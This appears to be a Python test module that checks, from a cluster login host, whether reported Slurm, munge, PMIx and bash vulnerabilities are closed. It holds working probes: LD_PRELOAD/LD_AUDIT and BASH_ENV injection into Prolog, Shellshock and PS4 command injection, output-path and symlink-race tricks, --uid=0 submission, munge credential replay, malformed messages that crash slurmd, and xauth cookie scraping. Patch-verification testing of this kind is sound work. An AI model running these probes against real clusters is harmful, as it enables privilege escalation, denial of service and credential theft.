"""What was reported of Slurm, munge, PMIx and shells that batch jobs start, tried from the login host. `how` names the report (reported.py says
when by number); as in helpers.py a function gets the Stage and returns a job's number if one must run."""
from common import Stopped
from helpers import ENVIRONMENT, HOME, SUBMIT, VIEW, helper, leaves, say


def reported(name, report, how, layer, **more):
    return helper("reported-" + name, f"{how} ({report})", layer, **more)


PATCHED = "it is closed here, without the fence too"
NO_PROLOG = "the control cluster has no Prolog"

# --- variables that reach a helper of root's, or the shell

for label, variable in (("preload", "SPANK_LD_PRELOAD"), ("audit", "SPANK_LD_AUDIT"), ("bash-env", "SPANK_BASH_ENV"), ("path", "SPANK_PATH")):
    @reported("spank-" + label, "CVE-2021-31215", f"{variable}, which becomes Prolog's own", SUBMIT + "; Prolog is a program that takes no environment of the user's",
              absent=NO_PROLOG)
    def _(stage, label=label, variable=variable):
        name = "reported-spank-" + label
        value = stage.file("run-" + name, "#!/bin/sh\n" + leaves(stage, name) + "\n") if label == "bash-env" else stage.preload(name)
        return stage.sbatch(f"--export=ALL,{variable}={value}")


for label, count, size in (("huge", 1, 100000), ("many", 500, 200)):
    @reported(f"spank-{label}", "options of plugins in the environment", f"{count} variable(s) of a plugin's option, {size} bytes each", ENVIRONMENT)
    def _(stage, label=label, count=count, size=size):
        variables = ",".join(f"_SLURM_SPANK_OPTION_aloft_{n}={'A' * size}" for n in range(count))
        return stage.sbatch("--export=ALL," + variables, wrap=leaves(stage, "reported-spank-" + label))


@reported("shell-function", "CVE-2014-6271", "a function in the environment, which the batch shell imports", ENVIRONMENT)
def _(stage):
    return submit(stage, {"BASH_FUNC_hostname%%": "() { " + leaves(stage, "reported-shell-function") + "; }"}, "#!/bin/bash\nhostname\n")


@reported("shell-prompt", "CVE-2016-7543", "SHELLOPTS and PS4, which the batch shell evaluates", ENVIRONMENT)
def _(stage):
    return submit(stage, {"SHELLOPTS": "xtrace", "PS4": "$(" + leaves(stage, "reported-shell-prompt") + ")"}, "#!/bin/bash\ntrue\n")


def submit(stage, variables, script):
    """With an environment that --export cannot write."""
    words = ["env", *(f"{name}={value}" for name, value in variables.items()), "sbatch", "--parsable", "--nodes=1", "--ntasks=1", "--time=2", "--export=ALL"]
    if not stage.fenced:
        words += ["--partition=open", "--chdir=" + stage.work]
    return int(stage.run("e-alice", *words, stdin=script).strip().split(";")[0])


@reported("loader-audit", "the loader's auditing", "LD_AUDIT for whatever starts first", ENVIRONMENT)
def _(stage): return stage.sbatch("--export=ALL,LD_AUDIT=" + stage.preload("reported-loader-audit"))


# --- where outputs land

OUTPUTS = {"proc-root": ("/proc/self/root/home/e-alice/{}", "through /proc/self/root"), "slashes": ("//home//e-alice//{}", "with doubled slashes"),
           "user-pattern": ("/home/%u/{}", "by a pattern"), "dots": ("/home/./e-alice/../e-alice/{}", "with dots"), "shm": ("/dev/shm/{}", "in the node's memory"),
           "var-tmp": ("/var/tmp/{}", "in /var/tmp"), "proc-cwd": ("/proc/self/cwd/../../home/e-alice/{}", "through /proc/self/cwd")}
for label, (path, how) in OUTPUTS.items():
    @reported("output-" + label, "outputs that root opens", f"the output {how}", SUBMIT + "; " + VIEW)
    def _(stage, label=label, path=path):
        name = "reported-output-" + label
        return stage.sbatch("--output=" + path.format(stage.token(name)), wrap=say(stage, name))


@reported("output-chdir", "outputs that root opens", "a relative output in a working folder of one's own", SUBMIT)
def _(stage):
    name = "reported-output-chdir"
    return stage.sbatch("--chdir=" + HOME, "--output=" + stage.token(name), wrap=say(stage, name))


@reported("output-race", "CVE-2023-41914", "a folder of the output that is swapped again and again while slurmstepd opens it", VIEW)
def _(stage):
    name, work = "reported-output-race", stage.work
    stage.run("e-alice", "sh", "-c", f"mkdir -p {work}/race.a; ln -sfn {HOME} {work}/race.b; ln -sfn race.a {work}/race")
    swap = f"(for n in $(seq 400); do ln -sfn race.b {work}/race; ln -sfn race.a {work}/race; done)"
    body = f"{swap} & for n in $(seq 20); do srun --mpi=none --overlap --output={work}/race/{stage.token(name)} echo {stage.token(name)}; done; wait"
    return stage.sbatch(wrap=body)


@reported("open-append", "outputs that root opens", "--open-mode=append on a link to a file of the home folder", VIEW)
def _(stage):
    name = "reported-open-append"
    stage.run("e-alice", "ln", "-sf", f"{HOME}/{stage.token(name)}", stage.work + "/append")
    return stage.sbatch("--open-mode=append", f"--output={stage.work}/append", wrap=say(stage, name))


# --- groups, users, and what a plugin's folder becomes

@reported("group", "CVE-2018-10995", "another group for the job (--gid)", SUBMIT, opens=True, absent=PATCHED)
def _(stage): return stage.sbatch("--gid=0")


@reported("user", "CVE-2018-10995", "another user for the job (--uid)", SUBMIT, opens=True, absent=PATCHED)
def _(stage): return stage.sbatch("--uid=0")


@reported("pmix-chown", "CVE-2023-41915", "a link in PMIx's folder to a file of root's, for who gives the folder's files away", "Slurm's own; a PMIx folder of the step's", opens=True, absent=PATCHED)
def _(stage):
    body = ('for d in "$PMIX_SERVER_TMPDIR" "$SLURM_PMIX_TMPDIR" /var/lib/slurm/slurmd/pmix.*; do '
            '[ -n "$d" ] && ln -s /etc/hostname "$d/link"; done; true')

    def look():
        owners = [stage.cluster.host(f"node{k}", "stat", "-c", "%u", "/etc/hostname").strip() for k in (1, 2, 3, 4)]
        if set(owners) == {"0"}:
            raise Stopped("the file is root's as before")
    return stage.sbatch(wrap=f"srun --mpi=pmix sh -c '{body}' || {body}"), look


@reported("broadcast-name", "CVE-2026-65107", "sbcast to a name that is a way up", "not the fence's: it carries what the login host can read anyway",
          allowed="the login host stands inside the site's fence; nothing of the job's own is in it")
def _(stage):
    name = "reported-broadcast-name"
    path = stage.file("cast-" + name, stage.token(name))
    stage.run("e-alice", "sbcast", f"--jobid={stage.job}", "--force", path, f"/var/tmp/../tmp/{stage.token(name)}")


@reported("broadcast-group", "CVE-2023-49938", "sbcast into a folder that only root's group may write", "Slurm's own: slurmd has the account's groups", opens=True, absent=PATCHED)
def _(stage):
    name = "reported-broadcast-group"
    path = stage.file("cast-" + name, stage.token(name))
    for k in (1, 2):
        stage.cluster.host(f"node{k}", "sh", "-c", "mkdir -p /var/lib/group; chmod 770 /var/lib/group")
    stage.run("e-alice", "sbcast", f"--jobid={stage.job}", "--force", path, "/var/lib/group/" + stage.token(name))


@reported("munge-folder", "CVE-2019-3691", "a link where munge writes as root or as itself: its folders", "they are munge's; a job has none", opens=True, absent=PATCHED)
def _(stage):
    for folder in ("/var/log/munge", "/var/lib/munge", "/run/munge", "/etc/munge"):
        try:
            stage.run("e-alice", "ln", "-s", "/etc/hostname", folder + "/link")
            return
        except Stopped:
            continue
    raise Stopped("none may be written")


# A munge credential of somebody else's would be what is needed; one of one's own says who one is.
@reported("munge-reuse", "CVE-2023-49933, CVE-2023-49935", "a message to slurmd with a credential that was for another message", "Slurm's own: slurmd answers the controller", opens=True, absent=PATCHED)
def _(stage):
    program = ("import socket, subprocess\n"
               "used = subprocess.run(['munge', '-n'], capture_output=True, check=True).stdout\n"
               "s = socket.create_connection(('node1', 6818), 3)\n"
               "s.sendall(len(used).to_bytes(4, 'big') + used)\n"
               "s.settimeout(3)\n"
               "raise SystemExit(0 if s.recv(64) else 'closed without an answer')")
    stage.run("e-alice", "python3", "-c", program)


@reported("message-lengths", "CVE-2023-49936, CVE-2023-49937", "messages to slurmd whose lengths are lies", "Slurm's own", opens=True, absent=PATCHED)
def _(stage):
    before = stage.cluster.host("node1", "pgrep", "-ox", "slurmd.*").strip()
    program = ("import socket\n"
               "for body in (b'\\xff' * 64, b'\\x26\\x00' + b'\\x00' * 8 + b'\\xff' * 40, b'\\x00' * 200):\n"
               "    s = socket.create_connection(('node1', 6818), 3)\n"
               "    s.sendall(len(body).to_bytes(4, 'big') + body)\n"
               "    s.close()")
    stage.run("e-alice", "python3", "-c", program)
    if stage.cluster.host("node1", "pgrep", "-ox", "slurmd.*").strip() == before:
        raise Stopped("slurmd is the same one as before")


@reported("window-cookie", "CVE-2020-27746", "the arguments of xauth, which hold the cookie of an X11 session", SUBMIT + ": no X11; a /proc of the job's own", opens=True, absent="X11 forwarding is not configured here")
def _(stage):
    words = stage.run("e-alice", "srun", f"--jobid={stage.job}", "--overlap", "--x11", "sh", "-c", "cat /proc/[0-9]*/cmdline | tr '\\0' ' '")
    if "xauth" not in words:
        raise Stopped("no xauth is to be seen")


@reported("entered-without-filter", "CVE-2019-10144, CVE-2019-10145", "a second program entered into the job, which the first one's fence does not bind", "a step must show the job's token")
def _(stage):
    name = "reported-entered-without-filter"
    stage.run("e-alice", "srun", f"--jobid={stage.job}", "--overlap", "--nodes=1", "--ntasks=1", "--cpus-per-task=1", "sh", "-c", leaves(stage, name))
